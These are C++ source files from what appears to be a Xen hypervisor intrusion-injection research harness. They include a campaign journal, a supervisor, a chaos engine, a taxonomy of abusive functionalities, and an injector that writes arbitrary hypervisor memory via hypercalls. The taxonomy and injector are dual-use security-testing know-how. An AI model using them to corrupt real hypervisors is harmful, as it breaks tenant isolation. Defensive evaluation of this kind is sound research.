/// The checksum field's framing: line = <entry minus '}'> + kCrcKey +
/// <16 hex digits> + "\"}", checksummed over the plain entry. The raw
/// sequence `,"crc":"` cannot appear inside any serialized value (quotes
/// in free text are escaped to \"), so scanning for the *last* occurrence
/// is unambiguous.
constexpr std::string_view kCrcKey = ",\"crc\":\"";
constexpr std::size_t kCrcHexDigits = 16;

std::string crc_hex(std::uint64_t h) {
  char buf[kCrcHexDigits + 1];
  std::snprintf(buf, sizeof buf, "%016llx", static_cast<unsigned long long>(h));
  return buf;
}

/// Strictly left-to-right field scanner over one JSON line. Each lookup
/// advances the cursor past the value it consumed, so a free-text value can
/// never satisfy a *later* key lookup (and fields serialized before it are
/// already behind the cursor).
class FieldScanner {
 public:
  explicit FieldScanner(const std::string& line) : line_{&line} {}

  std::optional<std::string> str(const std::string& key) {
    const auto value = find(key);
    if (!value) return std::nullopt;
    std::size_t i = *value;
    if (i >= line_->size() || (*line_)[i] != '"') return std::nullopt;
    ++i;
    std::string out;
    while (i < line_->size() && (*line_)[i] != '"') {
      char c = (*line_)[i];
      if (c == '\\' && i + 1 < line_->size()) {
        const char esc = (*line_)[i + 1];
        switch (esc) {
          case 'n': c = '\n'; break;
          case 'r': c = '\r'; break;
          case 't': c = '\t'; break;
          case '"': c = '"'; break;
          case '\\': c = '\\'; break;
          case 'u': {
            // json_escape only emits \u00XX for control bytes.
            if (i + 5 < line_->size()) {
              c = static_cast<char>(
                  std::stoi(line_->substr(i + 2, 4), nullptr, 16));
              i += 4;
            }
            break;
          }
          default: c = esc;
        }
        ++i;
      }
      out += c;
      ++i;
    }
    if (i >= line_->size()) return std::nullopt;  // torn: unterminated string
    pos_ = i + 1;
    return out;
  }

  std::optional<std::int64_t> num(const std::string& key) {
    const auto value = find(key);
    if (!value) return std::nullopt;
    std::size_t i = *value;
    const std::size_t begin = i;
    if (i < line_->size() && (*line_)[i] == '-') ++i;
    while (i < line_->size() && (*line_)[i] >= '0' && (*line_)[i] <= '9') ++i;
    if (i == begin) return std::nullopt;
    pos_ = i;
    return std::stoll(line_->substr(begin, i - begin));
  }

 private:
  /// Position just past `"key":`, searching from the cursor only.
  std::optional<std::size_t> find(const std::string& key) {
    const std::string needle = "\"" + key + "\":";
    const std::size_t at = line_->find(needle, pos_);
    if (at == std::string::npos) return std::nullopt;
    return at + needle.size();
  }

  const std::string* line_;
  std::size_t pos_ = 0;
};

std::optional<hv::XenVersion> parse_version(const std::string& s) {
  const std::size_t dot = s.find('.');
  if (dot == std::string::npos || dot == 0 || dot + 1 >= s.size()) {
    return std::nullopt;
  }
  try {
    return hv::XenVersion{std::stoi(s.substr(0, dot)),
                          std::stoi(s.substr(dot + 1))};
  } catch (const std::exception&) {
    return std::nullopt;
  }
}

}  // namespace

std::string journal_header(const CampaignConfig& config, unsigned max_attempts,
                           unsigned quarantine_after) {
  std::ostringstream os;
  os << "{\"journal\":\"ii-campaign-cells\",\"schema\":1,\"versions\":\"";
  for (std::size_t i = 0; i < config.versions.size(); ++i) {
    if (i) os << ' ';
    os << config.versions[i].to_string();
  }
  os << "\",\"modes\":\"";
  for (std::size_t i = 0; i < config.modes.size(); ++i) {
    if (i) os << ' ';
    os << to_string(config.modes[i]);
  }
  os << "\",\"logical_time\":" << (config.logical_time ? 1 : 0)
     << ",\"recovery\":" << (config.attempt_recovery ? 1 : 0)
     << ",\"max_hypercalls\":" << config.max_cell_hypercalls
     << ",\"max_steps\":" << config.max_cell_steps
     << ",\"max_attempts\":" << max_attempts
     << ",\"quarantine_after\":" << quarantine_after << "}";
  return os.str();
}

std::string journal_entry(const CellResult& cell) {
  std::ostringstream os;
  // `failure` is free text and therefore serialized last (see file header).
  // `use_case` is first but parsed first too, so the cursor is already past
  // it before any other key is looked up.
  os << "{\"use_case\":\"" << obs::json_escape(cell.use_case)
     << "\",\"version\":\"" << cell.version.to_string() << "\",\"mode\":\""
     << to_string(cell.mode) << "\",\"completed\":"
     << (cell.outcome.completed ? 1 : 0) << ",\"rc\":" << cell.outcome.rc
     << ",\"err_state\":" << (cell.err_state ? 1 : 0) << ",\"violation\":"
     << (cell.violation ? 1 : 0) << ",\"wall_us\":" << cell.wall_us
     << ",\"hypercalls\":" << cell.hypercalls << ",\"attempts\":"
     << cell.attempts << ",\"recovered\":" << (cell.recovered ? 1 : 0)
     << ",\"quarantined\":" << (cell.quarantined ? 1 : 0) << ",\"failure\":\""
     << obs::json_escape(cell.failure) << "\"}";
  return os.str();
}

std::string journal_line(const CellResult& cell) {
  const std::string entry = journal_entry(cell);
  std::string line = entry.substr(0, entry.size() - 1);  // drop '}'
  line += kCrcKey;
  line += crc_hex(fnv1a64(entry));
  line += "\"}";
  return line;
}

std::optional<CellResult> parse_journal_entry(const std::string& line) {
  if (line.empty() || line.front() != '{' || line.back() != '}') {
    return std::nullopt;  // torn write or foreign content
  }
  std::string base = line;
  if (const std::size_t at = line.rfind(kCrcKey); at != std::string::npos) {
    // Checksummed form: the framing must be exact and the digest must
    // match, else the line is corrupt (short write inside the file, bit
    // rot) rather than merely torn.
    if (line.size() != at + kCrcKey.size() + kCrcHexDigits + 2) {
      return std::nullopt;
    }
    const std::string hex = line.substr(at + kCrcKey.size(), kCrcHexDigits);
    base = line.substr(0, at) + "}";
    if (hex != crc_hex(fnv1a64(base))) return std::nullopt;
  }
  FieldScanner scan{base};
  CellResult cell;

  const auto use_case = scan.str("use_case");
  const auto version_str = scan.str("version");
  const auto mode_str = scan.str("mode");
  if (!use_case || !version_str || !mode_str) return std::nullopt;
  const auto version = parse_version(*version_str);
  if (!version) return std::nullopt;
  if (*mode_str != "exploit" && *mode_str != "injection") return std::nullopt;

  const auto completed = scan.num("completed");
  const auto rc = scan.num("rc");
  const auto err_state = scan.num("err_state");
  const auto violation = scan.num("violation");
  const auto wall_us = scan.num("wall_us");
  const auto hypercalls = scan.num("hypercalls");
  const auto attempts = scan.num("attempts");
  const auto recovered = scan.num("recovered");
  const auto quarantined = scan.num("quarantined");
  const auto failure = scan.str("failure");
  if (!completed || !rc || !err_state || !violation || !wall_us ||
      !hypercalls || !attempts || !recovered || !quarantined || !failure) {
    return std::nullopt;
  }

  cell.use_case = *use_case;
  cell.version = *version;
  cell.mode = *mode_str == "exploit" ? Mode::Exploit : Mode::Injection;
  cell.outcome.completed = *completed != 0;
  cell.outcome.rc = static_cast<long>(*rc);
  cell.err_state = *err_state != 0;
  cell.violation = *violation != 0;
  cell.wall_us = static_cast<std::uint64_t>(*wall_us);
  cell.hypercalls = static_cast<std::uint64_t>(*hypercalls);
  cell.attempts = static_cast<unsigned>(*attempts);
  cell.recovered = *recovered != 0;
  cell.quarantined = *quarantined != 0;
  cell.failure = *failure;
  return cell;
}

JournalLoad load_journal(const std::string& path,
                         const std::string& expected_header) {
  std::ifstream in{path};
  if (!in) return {};
  std::string line;
  if (!std::getline(in, line)) return {};
  if (line != expected_header) {
    throw std::runtime_error{
        "campaign journal " + path +
        " was recorded under a different campaign configuration; refusing "
        "to resume from it"};
  }
  JournalLoad load;
  while (std::getline(in, line)) {
    if (line.empty()) continue;
    if (auto cell = parse_journal_entry(line)) {
      load.cells.push_back(std::move(*cell));
    } else {
      ++load.skipped;  // torn or checksum-failed: the cell re-runs
    }
  }
  return load;
}

// ----------------------------------------------------------- JournalWriter

void JournalWriter::open(const std::string& path, const std::string& header) {
  out_.open(path, std::ios::trunc);
  if (!out_) return;
  out_ << header << '\n';
  out_.flush();
}

bool JournalWriter::append(const CellResult& cell) {
  if (!out_.is_open()) return false;
  const std::string line = journal_line(cell);
  bool ok = true;
  if (chaos_fire("journal.write_fail")) {
    ok = false;  // the line never reaches the file
  } else if (chaos_fire("journal.torn")) {
    // Short write: a prefix lands in the file. The newline keeps the
    // *next* append parseable — the damage is confined to this line,
    // which the checksum catches at load time.
    out_ << line.substr(0, line.size() / 2) << '\n';
    ok = false;
  } else {
    out_ << line << '\n';
  }
  out_.flush();  // each cell durable before the next one runs
  if (chaos_fire("journal.fsync_fail") || !out_.good()) {
    out_.clear();  // keep the stream usable; later appends may succeed
    ok = false;
  }
  if (!ok) ++errors_;
  return ok;
}

}  // namespace ii::core
