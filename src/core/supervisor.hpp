// Fault-tolerant campaign supervisor.
//
// Campaign::run_cell already isolates each cell (exceptions become failed
// CaseOutcomes, budgets bound runaway cells, recovery is optional per
// config). The supervisor adds the *campaign-level* robustness on top:
//
//   retry      — a failed cell is re-run up to max_attempts times, with the
//                attempt count recorded in the result;
//   quarantine — after quarantine_after consecutive failed cells of one use
//                case, its remaining cells are skipped (marked quarantined)
//                instead of burning the rest of the campaign's budget;
//   journal    — every finished cell is appended to a JSONL journal, and a
//                resumed run skips journaled cells while reproducing the
//                identical report (see journal.hpp).
//
// Determinism under parallelism: workers claim whole *use cases*, never
// individual cells. All cells of one use case run sequentially in matrix
// order on one worker, so retry and quarantine decisions depend only on
// that ordered history — results are identical for any thread count (and,
// with CampaignConfig::logical_time, byte-identical as CSV).
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "core/campaign.hpp"

namespace ii::core {

struct SupervisorConfig {
  /// Worker threads; effective parallelism is min(threads, use cases).
  unsigned threads = 1;
  /// Total attempts per cell (1 = no retry). Failed means CellResult::failed().
  unsigned max_attempts = 1;
  /// Consecutive failed cells of one use case before the rest of that use
  /// case is quarantined (0 = never quarantine). Retries that eventually
  /// succeed reset the streak.
  unsigned quarantine_after = 0;
  /// JSONL cell journal path; empty disables journaling.
  std::string journal_path;
  /// Skip cells already present in the journal (header must match).
  bool resume = false;
};

class CampaignSupervisor {
 public:
  CampaignSupervisor(CampaignConfig campaign, SupervisorConfig config)
      : campaign_{std::move(campaign)}, config_{std::move(config)} {}

  /// Run the full (use case x version x mode) matrix under supervision.
  /// `factory` builds a private UseCase set per worker, exactly like
  /// Campaign::run_parallel. Results come back in matrix order.
  [[nodiscard]] std::vector<CellResult> run(
      const std::function<std::vector<std::unique_ptr<UseCase>>()>& factory)
      const;

  /// The journal header this configuration writes/expects (for tests and
  /// tooling that want to inspect a journal without a supervisor run).
  [[nodiscard]] std::string header() const;

 private:
  CampaignConfig campaign_;
  SupervisorConfig config_;
};

}  // namespace ii::core
