// Fault-tolerant campaign supervisor.
//
// Campaign::run_cell already isolates each cell (exceptions become failed
// CaseOutcomes, budgets bound runaway cells, recovery is optional per
// config). The supervisor adds the *campaign-level* robustness on top:
//
//   retry      — a failed cell is re-run up to max_attempts times (with
//                exponential backoff and deterministic jitter between
//                attempts), the attempt count recorded in the result;
//   quarantine — after quarantine_after consecutive failed cells of one use
//                case, its remaining cells are skipped (marked quarantined)
//                instead of burning the rest of the campaign's budget;
//   journal    — every finished cell is appended to a JSONL journal
//                (checksummed lines, flush-on-append), and a resumed run
//                skips journaled cells while reproducing the identical
//                report (see journal.hpp).
//
// The escalation ladder for a failing cell, each rung engaged only when
// the previous one did not clear the failure:
//   1. retry          re-run the cell, backoff+jitter between attempts;
//   2. recover        Hypervisor::recover() inside run_cell (when
//                     CampaignConfig::attempt_recovery), so the retry
//                     starts from an audited platform;
//   3. quarantine     stop running the use case after quarantine_after
//                     consecutive failed cells;
//   4. pool-slot      on quarantine, drop the worker's warm platform pool
//      replacement    so every later use case boots fresh platforms
//                     instead of inheriting possibly-poisoned ones.
//
// Worker death (chaos worker.crash, or any escaped WorkerCrash) releases
// the worker's claimed use case back to a re-claim queue: another worker —
// or a respawned one, when all workers died — re-claims it and re-runs the
// use case from its first cell, overwriting the same result slots with the
// identical (deterministic) values. A crashed claim can therefore never
// strand cells until process exit.
//
// Determinism under parallelism: workers claim whole *use cases*, never
// individual cells. All cells of one use case run sequentially in matrix
// order on one worker, so retry and quarantine decisions depend only on
// that ordered history — results are identical for any thread count (and,
// with CampaignConfig::logical_time, byte-identical as CSV).
#pragma once

#include <cstdint>
#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "core/campaign.hpp"

namespace ii::core {

struct SupervisorConfig {
  /// Worker threads; effective parallelism is min(threads, use cases).
  unsigned threads = 1;
  /// Total attempts per cell (1 = no retry). Failed means CellResult::failed().
  unsigned max_attempts = 1;
  /// Consecutive failed cells of one use case before the rest of that use
  /// case is quarantined (0 = never quarantine). Retries that eventually
  /// succeed reset the streak.
  unsigned quarantine_after = 0;
  /// JSONL cell journal path; empty disables journaling.
  std::string journal_path;
  /// Skip cells already present in the journal (header must match).
  bool resume = false;
  /// Base delay before retry attempt 2 (doubling per further attempt,
  /// capped at 1024x) plus a deterministic jitter of up to half the delay,
  /// derived from the cell key and attempt number — every run backs off
  /// identically. 0 disables backoff (the default; unit tests stay fast).
  std::uint64_t retry_backoff_us = 0;
};

class CampaignSupervisor {
 public:
  CampaignSupervisor(CampaignConfig campaign, SupervisorConfig config)
      : campaign_{std::move(campaign)}, config_{std::move(config)} {}

  /// Run the full (use case x version x mode) matrix under supervision.
  /// `factory` builds a private UseCase set per worker, exactly like
  /// Campaign::run_parallel. Results come back in matrix order.
  [[nodiscard]] std::vector<CellResult> run(
      const std::function<std::vector<std::unique_ptr<UseCase>>()>& factory)
      const;

  /// The journal header this configuration writes/expects (for tests and
  /// tooling that want to inspect a journal without a supervisor run).
  [[nodiscard]] std::string header() const;

 private:
  CampaignConfig campaign_;
  SupervisorConfig config_;
};

}  // namespace ii::core
