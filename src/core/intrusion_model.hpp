// Intrusion Models (paper §IV-B/§IV-C).
//
// An Intrusion Model abstracts *how an erroneous state is achieved when
// using an abusive functionality through a given interface*. Instantiating
// one fixes the triggering source (who attacks), the target component, the
// interaction interface, and the abusive functionality gained. The model is
// deliberately implementation-agnostic — that is what makes test cases
// portable across hypervisor versions and vendors (paper §IX-B).
#pragma once

#include <string>

#include "core/abusive_functionality.hpp"

namespace ii::core {

/// Who drives the intrusion (the threat-model actor).
enum class TriggeringSource {
  UnprivilegedGuest,    ///< kernel-privileged user in a domU
  PrivilegedGuest,      ///< dom0 / control domain
  ManagementInterface,  ///< toolstack / admin API
  DeviceDriver,         ///< emulated or passthrough device path
};

/// Hypervisor component whose state the intrusion corrupts.
enum class TargetComponent {
  MemoryManagement,
  InterruptHandling,
  GrantTables,
  Scheduler,
  IoEmulation,
};

/// Channel through which the abusive functionality is exercised.
enum class InteractionInterface {
  Hypercall,
  IoRequest,
  SharedMemory,
  EventChannel,
};

[[nodiscard]] std::string to_string(TriggeringSource s);
[[nodiscard]] std::string to_string(TargetComponent c);
[[nodiscard]] std::string to_string(InteractionInterface i);

/// A fully instantiated Intrusion Model.
struct IntrusionModel {
  TriggeringSource source = TriggeringSource::UnprivilegedGuest;
  TargetComponent component = TargetComponent::MemoryManagement;
  InteractionInterface interface = InteractionInterface::Hypercall;
  AbusiveFunctionality functionality =
      AbusiveFunctionality::WriteUnauthorizedArbitraryMemory;
  /// Free-text description of the erroneous state the model targets
  /// (e.g. "IDT page-fault gate overwritten").
  std::string erroneous_state;

  [[nodiscard]] std::string describe() const;
};

}  // namespace ii::core
