// Report rendering: the ASCII equivalents of the paper's tables.
#pragma once

#include <string>
#include <vector>

#include "core/campaign.hpp"
#include "core/usecase.hpp"

namespace ii::core {

/// Generic fixed-width table renderer (header row + body rows).
[[nodiscard]] std::string render_table(
    const std::vector<std::string>& headers,
    const std::vector<std::vector<std::string>>& rows);

/// Table II: use case -> abusive functionality.
[[nodiscard]] std::string render_use_case_table(
    const std::vector<std::unique_ptr<UseCase>>& cases);

/// Fig. 4 / RQ1 matrix: per use case and version, whether the exploit and
/// the injection induced the erroneous state and the violation.
[[nodiscard]] std::string render_rq1_table(
    const std::vector<CellResult>& results);

/// Table III: injection campaign on the non-vulnerable versions. A check
/// mark means the property was induced; a blank Sec.Viol. cell with a
/// shield marker means the system handled the injected state.
[[nodiscard]] std::string render_table3(
    const std::vector<CellResult>& results);

/// Machine-readable export of raw campaign cells (one row per cell, header
/// included) for downstream analysis pipelines. Observability columns
/// (wall_us, hypercalls) and supervisor columns (attempts, recovered,
/// quarantined) ride at the end so existing consumers that index by
/// position keep working.
[[nodiscard]] std::string render_csv(const std::vector<CellResult>& results);

/// Human-readable dump of a metrics snapshot: a counters table followed by
/// a histogram table (count/mean/p50/p95/p99).
[[nodiscard]] std::string render_metrics_summary(
    const obs::MetricsSnapshot& snapshot);

}  // namespace ii::core
