#include "core/intrusion_model.hpp"

namespace ii::core {

std::string to_string(TriggeringSource s) {
  switch (s) {
    case TriggeringSource::UnprivilegedGuest: return "unprivileged guest";
    case TriggeringSource::PrivilegedGuest: return "privileged guest (dom0)";
    case TriggeringSource::ManagementInterface: return "management interface";
    case TriggeringSource::DeviceDriver: return "device driver";
  }
  return "unknown";
}

std::string to_string(TargetComponent c) {
  switch (c) {
    case TargetComponent::MemoryManagement: return "memory management";
    case TargetComponent::InterruptHandling: return "interrupt handling";
    case TargetComponent::GrantTables: return "grant tables";
    case TargetComponent::Scheduler: return "scheduler";
    case TargetComponent::IoEmulation: return "I/O emulation";
  }
  return "unknown";
}

std::string to_string(InteractionInterface i) {
  switch (i) {
    case InteractionInterface::Hypercall: return "hypercall";
    case InteractionInterface::IoRequest: return "I/O request";
    case InteractionInterface::SharedMemory: return "shared memory";
    case InteractionInterface::EventChannel: return "event channel";
  }
  return "unknown";
}

std::string IntrusionModel::describe() const {
  return to_string(source) + " abusing a " + to_string(interface) +
         " against " + to_string(component) + " to obtain '" +
         to_string(functionality) + "' (erroneous state: " + erroneous_state +
         ")";
}

}  // namespace ii::core
