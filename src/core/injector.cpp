#include "core/injector.hpp"

namespace ii::core {

std::optional<std::uint64_t> Injector::read_u64(std::uint64_t addr,
                                                AddressMode mode) {
  std::uint64_t v = 0;
  if (!read(addr, {reinterpret_cast<std::uint8_t*>(&v), sizeof v}, mode)) {
    return std::nullopt;
  }
  return v;
}

bool Injector::write_u64(std::uint64_t addr, std::uint64_t value,
                         AddressMode mode) {
  return write(addr,
               {reinterpret_cast<const std::uint8_t*>(&value), sizeof value},
               mode);
}

bool ArbitraryAccessInjector::read(std::uint64_t addr,
                                   std::span<std::uint8_t> out,
                                   AddressMode mode) {
  hv::ArbitraryAccess req{};
  req.addr = addr;
  req.buffer = out;
  req.action = mode == AddressMode::Linear ? hv::AccessAction::ReadLinear
                                           : hv::AccessAction::ReadPhysical;
  last_rc_ = guest_->arbitrary_access(req);
  return last_rc_ == hv::kOk;
}

bool ArbitraryAccessInjector::write(std::uint64_t addr,
                                    std::span<const std::uint8_t> in,
                                    AddressMode mode) {
  // The hypercall ABI takes one buffer pointer for both directions; the
  // const_cast reflects the guest->hypervisor copy direction for writes.
  hv::ArbitraryAccess req{};
  req.addr = addr;
  req.buffer = {const_cast<std::uint8_t*>(in.data()), in.size()};
  req.action = mode == AddressMode::Linear ? hv::AccessAction::WriteLinear
                                           : hv::AccessAction::WritePhysical;
  last_rc_ = guest_->arbitrary_access(req);
  return last_rc_ == hv::kOk;
}

}  // namespace ii::core
