// The abusive-functionality taxonomy (paper §IV-D, Table I).
//
// An abusive functionality is "the essential characteristic that can be
// generalized from a collection of exploits": the unintended capability an
// attacker gains when a vulnerability is activated, abstracted away from the
// specific bug. The paper's preliminary study classifies 100 memory-related
// Xen advisories into the sixteen functionalities below, grouped in four
// classes. ii::cvedb carries the study's records; this header is the shared
// vocabulary.
#pragma once

#include <string>

namespace ii::core {

/// Table I's grouping classes.
enum class FunctionalityClass {
  MemoryAccess,
  MemoryManagement,
  ExceptionalConditions,
  NonMemoryRelated,
};

/// Table I's abusive functionalities.
enum class AbusiveFunctionality {
  // Memory Access
  ReadUnauthorizedMemory,
  WriteUnauthorizedMemory,
  WriteUnauthorizedArbitraryMemory,
  ReadWriteUnauthorizedMemory,
  FailMemoryAccess,
  // Memory Management
  CorruptVirtualMemoryMapping,
  CorruptPageReference,
  DecreasePageMappingAvailability,
  GuestWritablePageTableEntry,
  FailMemoryMapping,
  UncontrolledMemoryAllocation,
  KeepPageAccess,
  // Exceptional Conditions
  InduceFatalException,
  InduceMemoryException,
  // Non-Memory Related
  InduceHangState,
  UncontrolledArbitraryInterruptRequests,
};

inline constexpr AbusiveFunctionality kAllAbusiveFunctionalities[] = {
    AbusiveFunctionality::ReadUnauthorizedMemory,
    AbusiveFunctionality::WriteUnauthorizedMemory,
    AbusiveFunctionality::WriteUnauthorizedArbitraryMemory,
    AbusiveFunctionality::ReadWriteUnauthorizedMemory,
    AbusiveFunctionality::FailMemoryAccess,
    AbusiveFunctionality::CorruptVirtualMemoryMapping,
    AbusiveFunctionality::CorruptPageReference,
    AbusiveFunctionality::DecreasePageMappingAvailability,
    AbusiveFunctionality::GuestWritablePageTableEntry,
    AbusiveFunctionality::FailMemoryMapping,
    AbusiveFunctionality::UncontrolledMemoryAllocation,
    AbusiveFunctionality::KeepPageAccess,
    AbusiveFunctionality::InduceFatalException,
    AbusiveFunctionality::InduceMemoryException,
    AbusiveFunctionality::InduceHangState,
    AbusiveFunctionality::UncontrolledArbitraryInterruptRequests,
};

/// Class a functionality belongs to (Table I's section headers).
[[nodiscard]] FunctionalityClass class_of(AbusiveFunctionality af);

/// Human-readable names, matching Table I's row labels.
[[nodiscard]] std::string to_string(AbusiveFunctionality af);
[[nodiscard]] std::string to_string(FunctionalityClass fc);

}  // namespace ii::core
