// Deterministic chaos engine: fault injection for the injector itself.
//
// Campaign results are only meaningful if the harness tolerates faults
// without corrupting or silently dropping experiments (the same
// dependability contract classic fault injection inherits — IRIS journals
// every experiment precisely so a crash can't lose or re-randomize work,
// and ReHype shows recovery paths are exactly the code you never exercise
// until it's too late). This module drives those paths on purpose: a
// ChaosEngine holds a splitmix64-seeded plan over a registry of *named*
// chaos points threaded through the stack — cell setup allocation, journal
// writes, supervisor workers, recovery phases, the network simulator and
// the real-socket status server — and decides, deterministically, which
// occurrences of each point fail.
//
// Determinism contract: every point owns a private splitmix64 stream
// seeded from (engine seed, point name), advanced once per occurrence.
// Same seed + same plan + same execution ⇒ byte-identical fault schedule
// (schedule_log()), so every chaos run is a reproducible test case. Under
// multi-threaded execution the *decisions* per (point, occurrence index)
// are still fixed; only the attribution of occurrence indices to threads
// can vary — run single-threaded when the schedule log itself is cmp-gated
// (bench/chaos_soak.sh does).
//
// Cost model, same as TraceSink/SpanProfiler: with no engine installed a
// chaos point is one branch on an atomic load. Points are compiled in
// unconditionally — the whole value of the exercise is that production
// binaries run the exact code chaos tests.
//
// Layering: this header is self-contained (standard library only) and
// compiled into its own ii_chaos library, so src/hv and src/net can hit
// chaos points without depending on the rest of src/core.
#pragma once

#include <cstdint>
#include <map>
#include <mutex>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

namespace ii::core {

// ------------------------------------------------------------- primitives

/// splitmix64 step: advances `state` and returns the next value of the
/// stream. The canonical 64-bit seeding primitive (also used by the fuzz
/// campaign's seed expansion); full 64-bit state, no truncation.
[[nodiscard]] constexpr std::uint64_t splitmix64_next(std::uint64_t& state) {
  state += 0x9E3779B97F4A7C15ULL;
  std::uint64_t z = state;
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

/// FNV-1a over bytes; the journal's per-line checksum and the engine's
/// point-name seeding both use it.
[[nodiscard]] constexpr std::uint64_t fnv1a64(std::string_view bytes) {
  std::uint64_t h = 0xCBF29CE484222325ULL;
  for (const char c : bytes) {
    h ^= static_cast<unsigned char>(c);
    h *= 0x100000001B3ULL;
  }
  return h;
}

// ----------------------------------------------------------- fault model

/// A worker thread "dies" mid-cell: thrown at a worker.crash chaos point
/// inside the supervisor's cell loop and caught at the worker boundary,
/// which releases the worker's claimed use case for re-claiming and lets
/// the thread exit — the in-process analogue of a killed worker process.
struct WorkerCrash : std::runtime_error {
  WorkerCrash() : std::runtime_error{"chaos: worker crashed"} {}
};

/// The whole campaign process "dies": latched by the supervisor.kill chaos
/// point after a journal append; CampaignSupervisor::run drains its
/// workers and throws this. The journal keeps everything appended so far —
/// resuming must reproduce the uninterrupted run's report byte-for-byte.
struct CampaignKilled : std::runtime_error {
  CampaignKilled()
      : std::runtime_error{
            "chaos: campaign killed mid-run (journal intact; resume to "
            "continue)"} {}
};

// ------------------------------------------------------------------ plan

/// Per-point fault schedule: fire on a permille coin flip per occurrence,
/// at explicit occurrence indices (1-based), or both.
struct ChaosSpec {
  std::uint32_t rate_permille = 0;       ///< 0..1000 per-occurrence chance
  std::vector<std::uint64_t> fire_at;    ///< explicit occurrence indices
};

/// point name -> spec. Only registered point names are valid.
using ChaosPlan = std::map<std::string, ChaosSpec, std::less<>>;

/// Parse "point=permille,point@N,point@M" (tokens comma-separated; '='
/// sets the rate, '@' appends an explicit occurrence; repeated tokens
/// merge). Throws std::invalid_argument on syntax errors or names missing
/// from the chaos-point registry.
[[nodiscard]] ChaosPlan parse_chaos_plan(const std::string& text);

// -------------------------------------------------------------- registry

/// One row of the chaos-point registry: every name passed to chaos_fire()
/// anywhere in src/ must have a row (ii-lint rule chaos-point-registry),
/// so the vocabulary of injectable faults is closed and documented.
struct ChaosPointEntry {
  std::string_view name;
  std::string_view description;
};

/// Registry description for `name`; empty when unregistered.
[[nodiscard]] std::string_view chaos_point_description(std::string_view name);

/// All registered point names, for tooling and tests.
[[nodiscard]] std::vector<std::string_view> registered_chaos_points();

// ---------------------------------------------------------------- engine

class ChaosEngine {
 public:
  /// Builds per-point streams: state = splitmix64 of (seed ^ fnv1a(name)).
  /// Throws std::invalid_argument when the plan names unregistered points.
  ChaosEngine(std::uint64_t seed, ChaosPlan plan);

  ChaosEngine(const ChaosEngine&) = delete;
  ChaosEngine& operator=(const ChaosEngine&) = delete;
  ~ChaosEngine();

  /// Decide whether this occurrence of `point` fails. Advances the point's
  /// occurrence counter and stream; appends to the schedule log on a hit.
  /// Points absent from the plan never fire (and keep no state).
  [[nodiscard]] bool fire(std::string_view point);

  /// Stop a point from ever firing again (the supervisor's backstop
  /// against a crash-looping plan that would otherwise starve progress).
  void disable(std::string_view point);

  [[nodiscard]] std::uint64_t fired(std::string_view point) const;
  [[nodiscard]] std::uint64_t total_fired() const;

  /// The reproducible fault schedule: a header binding seed and plan, then
  /// one line per fired fault in decision order.
  [[nodiscard]] std::string schedule_log() const;

  [[nodiscard]] std::uint64_t seed() const { return seed_; }

  /// Process-global installation (chaos points live below layers a config
  /// pointer could reach — recovery, the net simulator). Install nullptr
  /// to disarm. The caller keeps ownership; ~ChaosEngine auto-disarms
  /// itself so a dying engine can never dangle.
  static void install(ChaosEngine* engine);
  [[nodiscard]] static ChaosEngine* instance();

 private:
  struct PointState {
    ChaosSpec spec;
    std::uint64_t rng = 0;          ///< private splitmix64 stream
    std::uint64_t occurrences = 0;  ///< times this point was reached
    std::uint64_t fired = 0;
    bool disabled = false;
  };

  std::uint64_t seed_;
  std::string plan_text_;  ///< canonical re-render, for the log header
  mutable std::mutex mu_;
  std::map<std::string, PointState, std::less<>> points_;
  std::vector<std::string> log_;
  std::uint64_t total_fired_ = 0;
};

/// RAII install/disarm, for tests and CLIs.
class ChaosScope {
 public:
  explicit ChaosScope(ChaosEngine& engine) { ChaosEngine::install(&engine); }
  ~ChaosScope() { ChaosEngine::install(nullptr); }
  ChaosScope(const ChaosScope&) = delete;
  ChaosScope& operator=(const ChaosScope&) = delete;
};

/// The chaos point primitive: false (one atomic load) when no engine is
/// installed. `point` must be a registered name — ii-lint rule
/// chaos-point-registry greps call sites against the registry table.
[[nodiscard]] bool chaos_fire(std::string_view point);

}  // namespace ii::core
