#include "core/fuzz.hpp"

#include <algorithm>
#include <array>
#include <filesystem>
#include <fstream>
#include <iomanip>
#include <iterator>
#include <memory>
#include <set>
#include <sstream>

#include "core/chaos.hpp"
#include "core/injector.hpp"
#include "hv/audit.hpp"
#include "hv/errors.hpp"
#include "hv/layout.hpp"
#include "obs/metrics.hpp"
#include "obs/span.hpp"

namespace ii::core {

std::string to_string(FuzzOutcome outcome) {
  switch (outcome) {
    case FuzzOutcome::NoObservableEffect: return "no observable effect";
    case FuzzOutcome::Refused: return "refused";
    case FuzzOutcome::DetectedByAudit: return "detected by audit";
    case FuzzOutcome::IsolationViolation: return "ISOLATION VIOLATION";
    case FuzzOutcome::HostCrash: return "HOST CRASH";
    case FuzzOutcome::CpuHang: return "CPU HANG";
  }
  return "unknown";
}

std::string to_string(FuzzOp::Kind kind) {
  switch (kind) {
    case FuzzOp::Kind::ArbitraryWrite: return "arbitrary_write";
    case FuzzOp::Kind::MmuUpdate: return "mmu_update";
    case FuzzOp::Kind::Pin: return "pin";
    case FuzzOp::Kind::Unpin: return "unpin";
    case FuzzOp::Kind::NewBaseptr: return "new_baseptr";
    case FuzzOp::Kind::Exchange: return "exchange";
    case FuzzOp::Kind::GrantSetVersion: return "grant_set_version";
    case FuzzOp::Kind::GrantAccess: return "grant_access";
    case FuzzOp::Kind::GrantEndAccess: return "grant_end_access";
  }
  return "unknown";
}

// -------------------------------------------------------------- draw helpers

std::uint64_t draw_below(std::mt19937_64& rng, std::uint64_t bound) {
  if (bound < 2) return 0;
  // Largest multiple of `bound` that fits in 64 bits; draws at or above it
  // would wrap unevenly, so reject and redraw. Expected redraws < 1.
  const std::uint64_t zone = bound * (~std::uint64_t{0} / bound);
  std::uint64_t r = rng();
  while (r >= zone) r = rng();
  return r % bound;
}

std::mt19937_64 rng_for(std::uint64_t seed, std::uint64_t iteration) {
  // splitmix64 decorrelation first (the chaos engine's primitive), then a
  // seed_seq over all four 32-bit words: every bit of the 64-bit campaign
  // seed reaches the engine. The previous scheme seeded std::mt19937 from a
  // product silently narrowed to 32 bits, colliding seeds that differed
  // only in their high word.
  std::uint64_t s = seed + 0x9E3779B97F4A7C15ULL * (iteration + 1);
  const std::uint64_t a = splitmix64_next(s);
